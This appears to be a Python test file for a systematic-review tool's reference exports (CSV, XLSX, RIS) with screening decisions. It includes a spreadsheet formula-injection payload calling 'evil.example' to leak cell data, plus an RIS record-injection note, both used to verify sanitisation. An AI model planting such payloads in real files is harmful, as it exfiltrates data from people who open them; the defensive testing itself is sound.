"""Project-level reference exports (CSV, XLSX, RIS) carrying the screening decisions."""

from __future__ import annotations

import csv
import io

import pytest

from retroduce.exchange.references import (
    REFERENCE_COLUMNS,
    records_csv,
    records_ris,
    records_xlsx,
    reference_rows,
)
from retroduce.screening import services as screening
from retroduce.sources import episodes
from retroduce.sources.importers import parse_file
from retroduce.sources.importing import run_import, store_upload
from retroduce.sources.models import Record
from tests.sources.ris_samples import (
    LEADERSHIP,
    LEADERSHIP_AGAIN,
    POWER,
    RESILIENCE,
    ris_file,
    ris_record,
)

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
CHAPTER_TITLE = "Realist evaluation of pooled budgets"
CHAPTER = (
    "TY  - CHAP\n"
    "AU  - Pawson, Ray\n"
    "AU  - Tilley, Nick\n"
    f"TI  - {CHAPTER_TITLE}\n"
    "PY  - 2018\n"
    "T2  - Realist Evaluation in Practice\n"
    "SP  - 12\n"
    "EP  - 19\n"
    "SN  - 978-0-306-40615-7\n"
    "PB  - Sage\n"
    "LA  - eng\n"
    "AN  - 29912345\n"
    "DB  - PubMed\n"
    "AB  - First paragraph of the abstract.\n"
    "Second paragraph, on a line of its own.\n"
    "KW  - pooled budgets\n"
    "KW  - integrated care\n"
    "UR  - https://example.org/chapter\n"
    "ER  - \n"
)
UNTOUCHED = "Hip replacement outcomes in older adults"

LEADERSHIP_TITLE = "Leadership of integrated health and social care teams: a realist review"
POWER_TITLE = "Power and hierarchy in integrated care teams"
RESILIENCE_TITLE = "Resilience of community health teams during reorganisation"


def do_import(team, name: str, data: bytes, episode=None) -> None:
    batch = store_upload(team.project, team.users["owner"], name, data, episode)
    run_import(batch, team.users["owner"])


@pytest.fixture
def library(team, make_user):
    """Six records from two searches; the second search finds LEADERSHIP again (merged)."""
    from retroduce.core import services as core

    team.users["reviewer2"] = make_user("reviewer2")
    core.add_member(team.project, team.users["owner"], "reviewer2", "reviewer")
    medline = episodes.create_episode(
        team.project, team.users["owner"], purpose="evidence", source="MEDLINE (Ovid)"
    )
    chasing = episodes.create_episode(
        team.project,
        team.users["owner"],
        purpose="supplementary",
        supplementary_kind="citation_backward",
        source="citation chasing",
    )
    do_import(
        team,
        "medline.ris",
        ris_file(
            LEADERSHIP,
            POWER,
            RESILIENCE,
            ris_record(HOSTILE, ["Mallory, M"], "2021", "J Hostile Stud"),
            ris_record(UNTOUCHED, ["Bone, B"], "2015", "J Bones"),
        ),
        medline,
    )
    do_import(team, "chasing.ris", ris_file(LEADERSHIP_AGAIN, CHAPTER), chasing)
    assert Record.objects.filter(project=team.project, duplicate_of__isnull=False).count() == 1
    return team


def record(title: str) -> Record:
    return Record.objects.get(title=title, duplicate_of__isnull=True)


def rows_by_title(project) -> dict[str, dict[str, str]]:
    reader = csv.DictReader(io.StringIO(records_csv(project)))
    assert reader.fieldnames == REFERENCE_COLUMNS
    rows = list(reader)
    by_title = {r["title"]: r for r in rows}
    assert len(by_title) == len(rows)
    return by_title


def vote(team, persona: str, title: str, stage: str, choice: str, **extra):
    return screening.cast_vote(
        team.project, team.users[persona], record(title), stage, choice, **extra
    )


@pytest.fixture
def component(library):
    from retroduce.theory import services as theory

    version = theory.start_version(library.project, library.users["owner"], "initial")
    return theory.add_component(
        version, library.users["owner"], name="Working with power", provenance="team_inference"
    )


@pytest.fixture
def decided(library, component):
    """Screening as far as it went: includes, exclusions with reasons, components and notes."""
    team = library
    wrong = screening.add_reason(team.project, team.users["owner"], "Wrong population")
    vote(team, "reviewer", POWER_TITLE, "ta", "include", components=[component])
    vote(team, "reviewer", POWER_TITLE, "ft", "include", note="Rich on\ncontext")
    vote(team, "reviewer", RESILIENCE_TITLE, "ta", "exclude", reason=wrong)
    vote(team, "reviewer", LEADERSHIP_TITLE, "ta", "include")
    vote(team, "owner", LEADERSHIP_TITLE, "ft", "exclude", reason=wrong, note="Only managers")
    vote(team, "reviewer", CHAPTER_TITLE, "ta", "include")
    return team


def test_one_row_per_unique_record_with_decisions_reasons_and_tags(decided):
    rows = rows_by_title(decided.project)
    assert set(rows) == {
        LEADERSHIP_TITLE,
        POWER_TITLE,
        RESILIENCE_TITLE,
        "'" + HOSTILE,
        UNTOUCHED,
        CHAPTER_TITLE,
    }
    unique = Record.objects.filter(project=decided.project, duplicate_of__isnull=True)
    assert {r["record_id"] for r in rows.values()} == {str(r.uuid) for r in unique}

    power = rows[POWER_TITLE]
    assert power["authors"] == "Smith, Anna; Jones, Ben"
    assert (power["year"], power["journal"], power["volume"], power["pages"]) == (
        "2019",
        "Journal of Integrated Care",
        "27",
        "15-29",
    )
    assert power["doi"] == "10.1108/jica-01-2019-0001"
    assert power["title_abstract_outcome"] == "include"
    assert power["title_abstract_votes"] == "reviewer: include"
    assert power["title_abstract_components"] == "Working with power"
    assert power["full_text_outcome"] == "include"
    assert power["full_text_notes"] == "reviewer: Rich on\ncontext"
    assert power["status"] == "included at full text"
    assert power["sources"] == "#1 MEDLINE (Ovid)"

    resilience = rows[RESILIENCE_TITLE]
    assert resilience["title_abstract_outcome"] == "exclude"
    assert resilience["title_abstract_reason"] == "Wrong population"
    assert resilience["full_text_outcome"] == ""  # never reached full text
    assert resilience["status"] == "excluded at title/abstract: Wrong population"

    leadership = rows[LEADERSHIP_TITLE]
    assert leadership["full_text_outcome"] == "exclude"
    assert leadership["full_text_reason"] == "Wrong population"
    assert leadership["full_text_votes"] == "owner: exclude"
    assert leadership["full_text_notes"] == "owner: Only managers"
    assert leadership["status"] == "excluded at full text: Wrong population"
    # Found by both searches: the merged duplicate's search counts for the record it joined.
    assert leadership["sources"] == "#1 MEDLINE (Ovid); #2 citation chasing"

    chapter = rows[CHAPTER_TITLE]
    assert chapter["authors"] == "Pawson, Ray; Tilley, Nick"
    assert chapter["issue"] == "" and chapter["pmid"] == "29912345"
    assert chapter["keywords"] == "pooled budgets; integrated care"
    assert chapter["full_text_outcome"] == "pending"
    assert chapter["status"] == "included at title/abstract, full text not screened"

    untouched = rows[UNTOUCHED]
    assert untouched["title_abstract_outcome"] == "pending"
    assert untouched["title_abstract_votes"] == ""
    assert untouched["status"] == "not screened"


def test_a_merged_duplicate_is_not_a_row(library):
    merged = Record.objects.get(project=library.project, duplicate_of__isnull=False)
    rows = list(reference_rows(library.project))
    ids = [row[REFERENCE_COLUMNS.index("record_id")] for row in rows]
    assert str(merged.uuid) not in ids
    assert str(merged.duplicate_of.uuid) in ids
    assert len(rows) == 6
    assert sorted(ids) == sorted(
        str(u)
        for u in Record.objects.filter(
            project=library.project, duplicate_of__isnull=True
        ).values_list("uuid", flat=True)
    )


def test_blind_mode_hides_a_half_voted_records_vote(library, component):
    team = library
    screening.update_settings(
        team.project, team.users["owner"], "ta", votes_required=2, blind=True, adjudicator=None
    )
    vote(
        team,
        "reviewer",
        POWER_TITLE,
        "ta",
        "exclude",
        note="SECRET-NOTE-OF-REVIEWER-ONE",
        components=[component],
    )
    power = rows_by_title(team.project)[POWER_TITLE]
    assert power["title_abstract_outcome"] == "pending"
    assert power["title_abstract_votes"] == ""
    assert power["title_abstract_components"] == ""
    assert power["title_abstract_notes"] == ""
    assert power["title_abstract_reason"] == ""
    assert power["status"] == "not screened"
    ris = records_ris(team.project)
    xlsx = _xlsx_text(records_xlsx(team.project))
    for text in (records_csv(team.project), ris, xlsx):
        assert "SECRET-NOTE-OF-REVIEWER-ONE" not in text
        assert "reviewer: exclude" not in text
        assert "Working with power" not in text
    parsed = {r.title: r for r in parse_file("refs.ris", ris.encode()).records}
    assert parsed[POWER_TITLE].extra["LB"] == ["undecided"]

    # Once the second vote is in, both votes show.
    vote(team, "reviewer2", POWER_TITLE, "ta", "exclude")
    power = rows_by_title(team.project)[POWER_TITLE]
    assert power["title_abstract_outcome"] == "exclude"
    assert power["title_abstract_votes"] == "reviewer: exclude; reviewer2: exclude"
    assert power["title_abstract_notes"] == "reviewer: SECRET-NOTE-OF-REVIEWER-ONE"
    assert power["title_abstract_components"] == "Working with power"
    assert power["status"] == "excluded at title/abstract"


def test_a_resolved_conflict_shows_the_resolution(library):
    team = library
    screening.update_settings(
        team.project, team.users["owner"], "ta", votes_required=2, blind=True, adjudicator=None
    )
    vote(team, "reviewer", POWER_TITLE, "ta", "include")
    vote(team, "reviewer2", POWER_TITLE, "ta", "maybe")
    power = rows_by_title(team.project)[POWER_TITLE]
    assert power["title_abstract_outcome"] == "conflict"
    assert power["title_abstract_votes"] == "reviewer: include; reviewer2: maybe"
    assert power["status"] == "conflict at title/abstract"

    wrong = screening.add_reason(team.project, team.users["owner"], "Wrong population")
    screening.resolve_conflict(
        team.project,
        team.users["owner"],
        record(POWER_TITLE),
        "ta",
        "exclude",
        reason=wrong,
        note="Managers only",
    )
    power = rows_by_title(team.project)[POWER_TITLE]
    assert power["title_abstract_outcome"] == "exclude"
    assert power["title_abstract_reason"] == "Wrong population"
    assert power["title_abstract_resolution"] == "exclude by owner: Managers only"
    assert power["status"] == "excluded at title/abstract: Wrong population"


def _xlsx_text(data: bytes) -> str:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    return "\n".join(
        str(cell.value) for row in book.active.iter_rows() for cell in row if cell.value
    )


def test_formula_in_a_title_is_neutralised_in_csv_and_xlsx(library):
    from openpyxl import load_workbook

    rows = rows_by_title(library.project)
    assert "'" + HOSTILE in rows
    assert HOSTILE not in rows  # no cell starts with "="

    book = load_workbook(io.BytesIO(records_xlsx(library.project)))
    sheet = book.active
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    assert header == REFERENCE_COLUMNS
    titles = [row[header.index("title")] for row in sheet.iter_rows(min_row=2)]
    hostile = [cell for cell in titles if HOSTILE in str(cell.value)]
    assert len(hostile) == 1
    assert hostile[0].value == "'" + HOSTILE
    assert hostile[0].data_type == "s"  # text, not a formula
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
    assert len(titles) == 6


def test_ris_round_trips_through_our_importer(decided, component):
    team = decided
    text = records_ris(team.project)
    parsed = parse_file("references.ris", text.encode("utf-8"))
    assert parsed.format == "ris"
    records = {r.title: r for r in parsed.records}
    assert set(records) == set(rows_by_title(team.project)) - {"'" + HOSTILE} | {HOSTILE}

    power = records[POWER_TITLE]
    assert power.authors == ["Smith, Anna", "Jones, Ben"]
    assert power.doi == "10.1108/jica-01-2019-0001"
    assert (power.year, power.journal, power.volume, power.pages) == (
        "2019",
        "Journal of Integrated Care",
        "27",
        "15-29",
    )
    assert power.item_type == "article"
    assert power.extra["LB"] == ["included"]
    assert "retroduce: included at full text" in power.keywords
    assert "retroduce: component: Working with power" in power.keywords
    notes = power.extra["N1"]
    assert len(notes) == 2
    assert notes[0].startswith("Retroduce, title/abstract screening: include")
    assert "notes: reviewer: Rich on context" in notes[1]  # the note's line break collapsed

    resilience = records[RESILIENCE_TITLE]
    assert resilience.extra["LB"] == ["excluded"]
    assert "retroduce: excluded at title/abstract" in resilience.keywords
    assert "retroduce: reason: Wrong population" in resilience.keywords

    leadership = records[LEADERSHIP_TITLE]
    assert leadership.extra["LB"] == ["excluded"]  # the furthest stage decided: full text
    assert leadership.doi == "10.3310/wpng1013"
    assert "retroduce: excluded at full text" in leadership.keywords
    assert any("reason: Wrong population" in n for n in leadership.extra["N1"])

    chapter = records[CHAPTER_TITLE]
    assert chapter.item_type == "chapter"
    assert chapter.authors == ["Pawson, Ray", "Tilley, Nick"]
    assert chapter.journal == "Realist Evaluation in Practice"
    assert chapter.pages == "12-19"
    assert chapter.pmid == "29912345"
    assert chapter.isbn and chapter.publisher == "Sage" and chapter.language == "eng"
    assert chapter.url == "https://example.org/chapter"
    assert "\n" not in chapter.abstract and "Second paragraph" in chapter.abstract
    assert chapter.keywords[:2] == ["pooled budgets", "integrated care"]
    assert chapter.extra["LB"] == ["included"]  # included at title/abstract, full text pending

    untouched = records[UNTOUCHED]
    assert untouched.extra["LB"] == ["undecided"]
    assert "retroduce: not screened" in untouched.keywords
    assert "N1" not in untouched.extra


def test_a_multi_line_note_cannot_start_a_ris_record_of_its_own(library):
    team = library
    vote(
        team, "reviewer", POWER_TITLE, "ta", "include", note="fine\nER  - \nTY  - JOUR\nTI  - Fake"
    )
    parsed = parse_file("references.ris", records_ris(team.project).encode("utf-8"))
    assert len(parsed.records) == 6
    assert "Fake" not in {r.title for r in parsed.records}


def test_a_project_without_records_gives_a_header_only_table(team):
    assert records_csv(team.project).splitlines() == [",".join(REFERENCE_COLUMNS)]
    assert list(reference_rows(team.project)) == []
    assert records_ris(team.project) == ""

    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(records_xlsx(team.project))).active
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [REFERENCE_COLUMNS]


@pytest.mark.parametrize("fmt", ["csv", "ris", "xlsx"])
def test_the_cli_writes_the_records_with_their_decisions(decided, tmp_path, fmt):
    from typer.testing import CliRunner

    from retroduce.site.cli import app

    out = tmp_path / f"records.{fmt}"
    result = CliRunner().invoke(
        app, ["export", decided.project.slug, "--format", fmt, "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    assert "records with their screening decisions" in result.output
    if fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(out.read_text())))
        assert {r["title"] for r in rows} >= {POWER_TITLE, RESILIENCE_TITLE}
        resilience = next(r for r in rows if r["title"] == RESILIENCE_TITLE)
        assert resilience["title_abstract_reason"] == "Wrong population"
    elif fmt == "ris":
        assert "retroduce: reason: Wrong population" in out.read_text()
    else:
        assert out.read_bytes()[:2] == b"PK"
